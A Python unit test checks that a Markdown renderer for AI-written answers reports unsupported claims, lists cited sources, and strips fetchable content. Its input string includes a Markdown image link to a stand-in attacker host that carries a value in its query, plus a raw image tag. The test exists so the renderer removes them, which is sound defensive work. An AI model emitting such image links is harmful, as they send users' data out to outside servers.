"""A written answer as Markdown: what is doubted of it, the places it cites, and nothing that a viewer would fetch."""

from __future__ import annotations

import numpy as np

from core.evidence import Passage
from core.inspecting.as_markdown import written_answer
from core.search.checking.library_check import check_answer

SAID = "An access token is valid for 3600 seconds."
PASSAGES = tuple(
    Passage("v" * 64, title, name, 7, 7 + len(text), text, 1, (), (), rank, 1.0, "")
    for rank, (title, name, text) in enumerate((("Tokens", "tokens.md", SAID), ("Tea", "tea.txt", "Tea is free.")), 1)
)


def test_it_goes_out_with_its_doubts_and_places_and_without_links() -> None:
    text = f"{SAID[:-1]} [1]. It costs 5 euros [9]. ![x](http://evil.example.org/?q=3600) <img src=x>"
    verdicts = check_answer(text, PASSAGES, lambda claim, texts: np.zeros(len(texts)))
    parts = written_answer(text, verdicts, PASSAGES, "small").split("\n\n")
    assert parts[0] == "## Written by small"
    assert parts[1].startswith("Its sentences: 1 supported")
    assert parts[2].startswith(f"> {SAID[:-1]} [1]. It costs 5 euros [9].")
    assert any(part.startswith("- not found: “It costs 5 euros.” It does not stand there") for part in parts)
    assert parts[-1] == f"[1] tokens.md, characters 7–{7 + len(SAID)}"
    assert "](" not in "".join(parts)
    assert "<img" not in "".join(parts).replace("\\<img", "")
